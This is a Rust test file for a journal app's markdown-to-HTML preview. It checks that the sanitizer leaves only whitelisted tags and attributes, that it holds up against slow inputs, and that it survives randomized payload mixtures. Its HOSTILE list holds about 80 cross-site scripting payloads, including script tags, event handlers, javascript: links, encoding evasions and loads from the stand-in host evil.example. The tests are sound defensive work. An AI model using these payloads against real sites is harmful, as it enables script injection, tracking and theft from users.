//! What the preview promises: whatever an entry holds, the page gets harmless markup and loads nothing.
#![allow(clippy::unwrap_used)]

use std::time::{Duration, Instant};

use evenkeel_core::journal::render::html;
use proptest::prelude::*;

/// Own, written after the ways in which markup comes alive: tags, attributes, addresses, broken nesting, odd encodings.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=x>",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<form action=https://evil.example><input name=x><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/a.mp3 autoplay>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<p style=\"background:url(https://evil.example/x.png)\">x</p>",
    "<div style=\"width:expression(alert(1))\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a title='x' onclick='alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](<javascript:alert(1)>)",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](https://a.example/'><script>alert(1)</script>)",
    "[x](https://a.example \"' onmouseover='alert(1)\")",
    "[x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://a.example/\"onclick=alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "![\"onerror=\"alert(1)](x)",
    "![<img src=x onerror=alert(1)>](x)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\n x\n```",
    "~~~ \" onload=\"alert(1)\nx\n~~~",
    "| a | b |\n|---|:-:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "- [ ] <script>alert(1)</script>\n- [x] [y](javascript:alert(1))",
    "> <script>alert(1)</script>\n> - <svg onload=alert(1)>",
    "# <script>alert(1)</script> {#id onclick=alert(1)}",
    "<!-- <script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE html [<!ENTITY x \"<script>alert(1)</script>\">]>&x;",
    "</p></div></body><script>alert(1)</script>",
    "<a <b <script>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<\u{200b}script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<isindex action=javascript:alert(1) type=image>",
    "<keygen autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a ping=https://evil.example href=#>x</a>",
    "<p id=__proto__ class=app name=location>x</p>",
];

/// Every tag of a rendered text is one that the preview needs, with no attribute but those two; no other `<` is left.
fn check(rendered: &str, written: &str) {
    const PLAIN: [&str; 27] = [
        "blockquote",
        "br",
        "code",
        "del",
        "em",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "li",
        "ol",
        "p",
        "pre",
        "strong",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
        "sub",
        "sup",
        "a",
    ];
    for piece in rendered.split('<').skip(1) {
        let (tag, _) =
            piece.split_once('>').unwrap_or_else(|| panic!("{written:?} leaves an open tag: {rendered}"));
        let name = tag.trim_start_matches('/').split(' ').next().unwrap();
        assert!(PLAIN.contains(&name), "{written:?} gives <{tag}>: {rendered}");
        let attributes = tag.trim_start_matches('/')[name.len()..].trim();
        let value = match name {
            "a" => attributes.strip_prefix("title=\"").and_then(|rest| rest.strip_suffix('"')),
            "ol" => attributes.strip_prefix("start=\"").and_then(|rest| rest.strip_suffix('"')),
            _ => None,
        };
        let is_plain = attributes.is_empty() || value.is_some_and(|value| !value.contains(['"', '<', '>']));
        assert!(is_plain, "{written:?} gives <{tag}>: {rendered}");
    }
}

#[test]
fn no_hostile_markup_survives_alone_or_inside_other_text() {
    for written in HOSTILE {
        check(&html(written), written);
        for around in ["- ", "> ", "text ", "    ", "# ", "*", "<div>\n", "[a](b) ", "| a |\n|---|\n| "] {
            let written = format!("{around}{written}\n\n{written}{around}");
            check(&html(&written), &written);
        }
    }
}

#[test]
fn what_looked_like_markup_can_still_be_read() {
    let rendered = html("I typed <script>alert(1)</script> and <b>bold</b>");
    assert_eq!(
        rendered,
        "<p>I typed &lt;script&gt;alert(1)&lt;/script&gt; and &lt;b&gt;bold&lt;/b&gt;</p>\n"
    );
}

#[test]
fn a_long_or_deep_entry_does_not_hold_up_the_window() {
    for written in [
        "word ".repeat(200_000),
        "> ".repeat(20_000),
        "[".repeat(50_000),
        "*a ".repeat(50_000),
        "`".repeat(50_000),
        "<".repeat(50_000),
        "| a ".repeat(20_000) + "\n" + &"|---".repeat(20_000),
        "- ".repeat(20_000),
        "![".repeat(20_000),
        "&".repeat(50_000),
        format!("[x](<{}>)", "&\"'".repeat(10_000)),
        format!("`{}`", "<".repeat(50_000)),
        format!("```{}\n```", "&\"".repeat(10_000)),
    ] {
        let begun = Instant::now();
        check(&html(&written), &written[..20]);
        assert!(begun.elapsed() < Duration::from_secs(20), "{:?}", &written[..20]);
    }
}

proptest! {
    #[test]
    fn no_mixture_of_pieces_makes_live_markup(pieces in prop::collection::vec(
        prop_oneof![
            (0..HOSTILE.len()).prop_map(|at| HOSTILE[at].to_owned()),
            "[<>\"'=/ a-e\\[\\]()!`*_#&;:\n\t-]{0,12}",
            "\\PC{0,6}",
        ], 0..8)
    ) {
        let written = pieces.concat();
        check(&html(&written), &written);
    }
}
